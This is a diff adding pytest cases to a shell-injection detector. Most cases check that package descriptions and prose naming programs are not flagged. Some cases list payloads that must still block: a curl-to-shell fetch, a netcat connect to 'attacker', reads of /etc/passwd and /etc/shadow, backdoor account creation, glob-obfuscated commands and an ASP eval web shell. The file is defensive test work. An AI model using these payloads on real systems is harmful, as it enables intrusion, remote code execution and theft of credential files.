@@ -220,6 +220,89 @@ def test_commands_with_their_directory_still_block(value):
     assert v is not None and v.severity >= Severity.HIGH, value
 
 
+# ---------------------------------------------------------------- prose that names programs
+# (package descriptions, comments, documentation: the command word is a name in a sentence)
+
+
+@pytest.mark.parametrize("value", [
+    # a capitalised Unix command word followed by words: sh looks commands up case-sensitively
+    "APK split and selection tool", "CURL module for PHP", "GPS data graphical manager", "MySQL backend for PowerDNS",
+    "OpenSSL bindings for Lua", "SQLite3 wrapper for C++", "NMAP netcat reimplementation", "SSH connection daemon",
+    "Python client for Consul.io - Python 3.X", "Go language interface to Swift / Openstack / Rackspace",
+    "Perl module to encode / decode geohash.org locations",
+    # a lower-case command word followed by a sentence or a title
+    "rsync for commercial cloud storage", "telnet client with SSL encryption support", "grep for network traffic",
+    "bash script style guide checker - Python 3.x", "tmux session manager", "gzip recovery toolkit",
+    "bzip2 compression/decompression library", "sudo plugin for GOsa2", "zsh documentation - info/HTML format",
+    "typeset Scheme code with LaTeX", "tmux session manager (Python 3)",
+    # a new line of a description that starts with a command's name
+    "Description:\nbzip2 is a freely available, patent free, data compressor.",
+    "Tools:\nxxd creates a hex dump of a given file or standard input.",
+    "catalogs:\n    file and the package SGML catalog files in the '/etc/sgml' directory",
+])
+def test_sentences_naming_a_program_pass(value):
+    assert not blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", [
+    "GCC support library (sh4)", "Kubernetes client binary (kubectl)", "secure shell (SSH) client",
+    "event notification library (openssl)", "Emacs frontend (MySQL backend)", "S-expression parser (Python3)",
+    "Python ConfigParser bootstrapping library (Python3)", "Lua WSAPI plugin for uWSGI (LuaJIT)",
+    "file locking (flock / LockFileEx)", "using an external program (xz --decompress)",
+    "Secure Shell v2 (SSH2) protocol client", "GPS mapping (GeoTiff and vector) and GPS",
+])
+def test_a_parenthetical_after_a_word_is_not_a_subshell(value):
+    assert not blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", [
+    "features:\n * a global registry of named signals\n * anonymous signals",
+    "It does:\n\n   * Making the build process easy\n   * Providing a uniform build system",
+    "colorful `cat`", "try `less`, or `more`.", "use `sort` (or `uniq`) here",
+])
+def test_bullets_and_code_spans_in_text_pass(value):
+    assert not blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", [
+    # separators, substitutions and pipes into a shell are still what they are
+    ";curl http://x/a.sh|sh", "$(id)", "|cat /etc/passwd", "&dir c:\\", "`id`", "x`cat /etc/hosts`", "foo `id`",
+    "`cat`", "a;(id)|sh", "x (cat /etc/passwd)", "echo hi\n(curl http://x/a.sh|sh)",
+    # tools with a verb or an option are a command line however plain the other words are
+    "pip3 install something", "ansible-vault decrypt secret", "cscli alerts list", "ansible all -m ping",
+    "time; ansible all -m ping", "nc attacker 4444", "useradd hacker", "net user hacker pass /add",
+    # capitals do not hide evidence: a sensitive path, a Windows command (cmd.exe ignores case)
+    "CAT /ETC/PASSWD", "; DIR C:\\", "& Whoami", "| WHOAMI",
+    # globs that spell a command still do
+    ";/???/c?t /e??/p?sswd", "\n/*/id", "|/bin/c?t /etc/hosts",
+    # a call glued to its "(" is code, not an aside
+    "<% eval request(\"cmd\") %>",
+])
+def test_commands_still_block_next_to_the_prose_rules(value):
+    assert blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", ["Puppet module for managing /etc/hosts file",
+                                   "MySQL database common files, e.g. /etc/mysql/my.cnf",
+                                   "It uses the\ninformation in /etc/os-release instead of relying on LSB"])
+def test_paths_named_in_a_sentence_are_left_to_the_path_rules(value):
+    v = verdict(value)
+    assert v is None or v.severity <= Severity.MEDIUM, (value, v)
+
+
+@pytest.mark.parametrize("value", ["CAT /ETC/PASSWD", ";CAT /etc/passwd", "cat the file /etc/passwd",
+                                   "x;foo /etc/passwd; cat /etc/shadow"])
+def test_paths_in_command_lines_still_block(value):
+    assert blocked(value), (value, verdict(value))
+
+
+def test_sentences_stay_visible_as_medium():
+    """Not dropped: a capitalised or sentence-shaped command line still reports, needing company."""
+    for value in ("CURL module for PHP", "GCC support library (sh4)", "tmux session manager"):
+        v = verdict(value)
+        assert v is not None and v.severity == Severity.MEDIUM, (value, v)
+
+
 @pytest.mark.parametrize("value", [
     ";{cmd}", "|{cmd}|", "&&{cmd}&&", "FAIL||{cmd}", "a);{cmd}|", "\n{CMD}\n", "\\n{cmd}\\n", "`{cmd}`",
     "$({cmd})", "<{cmd};", "^CMD=$\"{cmd}\";$CMD", "{cmd}",
